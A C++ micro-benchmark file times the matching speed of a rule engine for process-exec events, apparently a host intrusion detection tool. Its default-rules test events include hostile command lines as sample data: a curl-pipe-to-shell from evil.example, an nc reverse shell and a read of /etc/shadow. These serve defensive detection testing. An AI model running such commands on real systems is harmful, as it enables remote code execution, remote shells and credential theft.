// Matcher micro-benchmark: the cost of RuleSet::match() for one event, all
// databases scanned and candidate rules evaluated, in items (events) per second.
//
// Sweep:
// - BM_SyntheticRules: rule sets of 10, 100 and 1,000 generated rules, spread
//   over every field and operator (equals, startswith, endswith, contains, in,
//   regex, nocase, several operators on one argument, not), against an exec
//   event whose argv is 64, 512 or 4,096 bytes, once missing every rule and
//   once hitting one.
// - BM_DefaultRules: the default rule set (rules/) against a round of
//   realistic exec events, ordinary and malicious.
//
// A regression is ns/event up by more than 10% on any point against the
// baseline, or any allocation inside the timed loop (match() must not
// allocate once its scratch is warm). The aim is under 1 us per event with
// 1,000 rules at the common argv lengths (64 and 512 bytes).
#include <benchmark/benchmark.h>
#include <fmt/format.h>

#include <cstdint>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "vigil/fields.h"
#include "vigil/rules.h"
#include "vigil_event.h"

namespace {

using vigil::rules::EventFields;
using vigil::rules::FieldId;
using vigil::rules::Rule;
using vigil::rules::RuleSet;

// An exec event that owns its bytes.
struct OwnedEvent {
  std::string exe, name, args, cmdline, cwd, parent_exe, parent_name, parent_cmdline;

  EventFields fields() const {
    EventFields f;
    f.kind = VIGIL_KIND_EXEC;
    f.set(FieldId::ProcExe, exe);
    f.set(FieldId::ProcName, name);
    f.set(FieldId::ProcArgs, args);
    f.set(FieldId::ProcCmdline, cmdline);
    f.set(FieldId::ProcCwd, cwd);
    f.set(FieldId::ParentExe, parent_exe);
    f.set(FieldId::ParentName, parent_name);
    f.set(FieldId::ParentCmdline, parent_cmdline);
    return f;
  }
};

OwnedEvent make_event(const std::vector<std::string>& argv) {
  OwnedEvent ev;
  ev.exe = "/usr/bin/" + argv[0];
  ev.name = argv[0];
  for (size_t i = 0; i < argv.size(); ++i) {
    ev.args += argv[i];
    ev.args.push_back('\0');
    ev.cmdline += (i ? " " : "") + argv[i];
  }
  ev.cwd = "/srv/app";
  ev.parent_exe = "/usr/bin/bash";
  ev.parent_name = "bash";
  ev.parent_cmdline = "/bin/bash /srv/app/run.sh --env production";
  return ev;
}

// The token rule i looks for: six pseudo-random lowercase letters and a
// digit, so that patterns start with varied bytes as real ones do. The event
// words below contain no digit after a letter run of six, so a miss event
// matches none of them (checked before timing).
std::string token(int i) {
  uint64_t x = static_cast<uint64_t>(i) * 0x9E3779B97F4A7C15ull + 0x2545F4914F6CDD1Dull;
  std::string t;
  for (int k = 0; k < 6; ++k) {
    x ^= x >> 29;
    x *= 0xBF58476D1CE4E5B9ull;
    t.push_back(static_cast<char>('a' + (x >> 40) % 26));
  }
  t.push_back(static_cast<char>('0' + i % 10));
  return t;
}

// Rule i of a synthetic set. Most tests are literals, about one in eight is a
// regex, as in real rule sets.
std::string synthetic_rule(int i) {
  const std::string t = token(i);
  std::string cond;
  switch (i % 16) {
    case 0:
      cond = fmt::format("{{proc.cmdline: {{contains: '{}'}}}}", t);
      break;
    case 1:
      cond = fmt::format("{{proc.args: {{equals: '--{}'}}}}", t);
      break;
    case 2:
      cond = fmt::format("{{proc.args: {{startswith: '{}='}}}}", t);
      break;
    case 3:
      cond = fmt::format("{{proc.args: {{endswith: '/{}', nocase: true}}}}", t);
      break;
    case 4:
      cond = fmt::format("{{proc.exe: {{startswith: '/opt/{}/'}}}}", t);
      break;
    case 5:
      cond = fmt::format("{{proc.name: {{in: ['{}', '{}a', '{}b']}}}}", t, t, t);
      break;
    case 6:
      cond = fmt::format("{{proc.cmdline: {{regex: '{}[0-9]+:[0-9]{{2,5}}'}}}}", t);
      break;
    case 7:
      cond = fmt::format("{{parent.cmdline: {{contains: '{}', nocase: true}}}}", t);
      break;
    case 8:
      cond = fmt::format("{{proc.cwd: {{startswith: '/{}'}}}}", t);
      break;
    case 9:
      cond = fmt::format("{{parent.exe: {{endswith: '/{}'}}}}", t);
      break;
    case 10:
      cond = fmt::format(
          "{{all: [{{proc.cmdline: {{contains: '{}'}}}}, {{not: {{proc.name: "
          "bash}}}}]}}",
          t);
      break;
    case 11:
      cond = fmt::format("{{proc.args: {{regex: '^-{}[a-z]*$'}}}}", t);
      break;
    case 12:
      cond = fmt::format("{{parent.name: {{equals: '{}'}}}}", t);
      break;
    case 13:
      cond = fmt::format("{{proc.exe: {{endswith: '/{}', nocase: true}}}}", t);
      break;
    case 14:
      cond = fmt::format(
          "{{any: [{{proc.cmdline: {{contains: '{}-a'}}}}, {{proc.args: "
          "{{startswith: '{}-b'}}}}]}}",
          t, t);
      break;
    default:
      cond = fmt::format("{{proc.args: {{startswith: '-{}', contains: ':'}}}}", t);
      break;
  }
  return fmt::format(
      "- rule: synthetic_{}\n  severity: low\n  tags: [mitre.T1059]\n"
      "  condition: {}\n",
      i, cond);
}

std::shared_ptr<const RuleSet> synthetic_set(int rules) {
  static std::map<int, std::shared_ptr<const RuleSet>> cache;
  auto& set = cache[rules];
  if (!set) {
    std::string yaml;
    for (int i = 0; i < rules; ++i) yaml += synthetic_rule(i);
    set = RuleSet::parse(yaml, "synthetic.yaml");
  }
  return set;
}

// argv of about `bytes` bytes made of ordinary-looking options and paths.
std::vector<std::string> argv_of_length(size_t bytes, bool hit) {
  static const char* kWords[] = {"--verbose",
                                 "/usr/share/app/data.json",
                                 "-c",
                                 "config.yaml",
                                 "--port=8080",
                                 "/var/lib/app/cache",
                                 "-n",
                                 "worker",
                                 "--log-level=info",
                                 "https://example.com/api/v1/items"};
  std::vector<std::string> argv{"app"};
  // Rule 0 (proc.cmdline contains its token) is the one a hit event hits.
  if (hit) argv.push_back("--tag=" + token(0));
  size_t size = 4;
  for (size_t i = 0; size < bytes; ++i) {
    argv.emplace_back(kWords[i % std::size(kWords)]);
    size += argv.back().size() + 1;
  }
  return argv;
}

void BM_SyntheticRules(benchmark::State& state) {
  const int rules = static_cast<int>(state.range(0));
  const size_t bytes = static_cast<size_t>(state.range(1));
  const bool hit = state.range(2) != 0;
  const auto set = synthetic_set(rules);
  const OwnedEvent owned = make_event(argv_of_length(bytes, hit));
  const EventFields ev = owned.fields();
  RuleSet::Scratch scratch(*set);
  std::vector<const Rule*> out;
  out.reserve(16);

  set->match(ev, scratch, out);
  if (out.size() != (hit ? 1u : 0u)) {
    state.SkipWithError("unexpected number of matches");
    return;
  }
  for (auto _ : state) {
    out.clear();
    set->match(ev, scratch, out);
    benchmark::DoNotOptimize(out.data());
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_SyntheticRules)
    ->ArgsProduct({{10, 100, 1000}, {64, 512, 4096}, {0, 1}})
    ->ArgNames({"rules", "argv_bytes", "hit"});

void BM_DefaultRules(benchmark::State& state) {
  const auto set = RuleSet::load({VIGIL_SOURCE_DIR "/rules"});
  const std::vector<std::vector<std::string>> argvs = {
      {"ls", "-la", "/home/user"},
      {"git", "status"},
      {"gcc", "-O2", "-c", "main.c", "-o", "main.o"},
      {"python3", "manage.py", "runserver", "0.0.0.0:8000"},
      {"curl", "-fsSL", "https://example.com/install.sh", "-o", "install.sh"},
      {"sh", "-c", "curl -fsSL http://evil.example/x.sh | sh"},
      {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"},
      {"cat", "/etc/shadow"},
  };
  std::vector<OwnedEvent> owned;
  for (const auto& argv : argvs) owned.push_back(make_event(argv));
  std::vector<EventFields> events;
  for (const OwnedEvent& e : owned) events.push_back(e.fields());
  RuleSet::Scratch scratch(*set);
  std::vector<const Rule*> out;
  out.reserve(16);

  size_t i = 0;
  for (auto _ : state) {
    out.clear();
    set->match(events[i], scratch, out);
    benchmark::DoNotOptimize(out.data());
    i = i + 1 == events.size() ? 0 : i + 1;
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_DefaultRules);

}  // namespace

BENCHMARK_MAIN();
